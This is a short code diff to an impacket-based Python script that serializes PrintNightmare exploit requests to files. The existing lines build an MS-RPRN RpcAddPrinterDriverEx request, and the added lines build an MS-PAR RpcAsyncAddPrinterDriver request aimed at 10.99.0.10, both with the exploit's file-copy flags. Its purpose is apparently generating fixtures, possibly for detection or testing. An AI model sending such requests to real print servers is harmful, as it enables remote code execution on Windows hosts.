@@ -124,3 +124,12 @@ info['pConfigFile'] = 'C:\\Windows\\System32\\winhttp.dll\x00'
 req['pDriverContainer'] = container
 req['dwFileCopyFlags'] = rprn.APD_COPY_ALL_FILES | 0x10 | 0x8000
 open('rprn_addprinterdriverex.bin', 'wb').write(req.getData())
+
+# MS-PAR's RpcAsyncAddPrinterDriver takes the same arguments (PrintNightmare over IRemoteWinspool).
+from impacket.dcerpc.v5 import par
+
+req = par.RpcAsyncAddPrinterDriver()
+req['pName'] = '\\\\10.99.0.10\x00'
+req['pDriverContainer'] = container
+req['dwFileCopyFlags'] = rprn.APD_COPY_ALL_FILES | 0x10 | 0x8000
+open('par_asyncaddprinterdriver.bin', 'wb').write(req.getData())
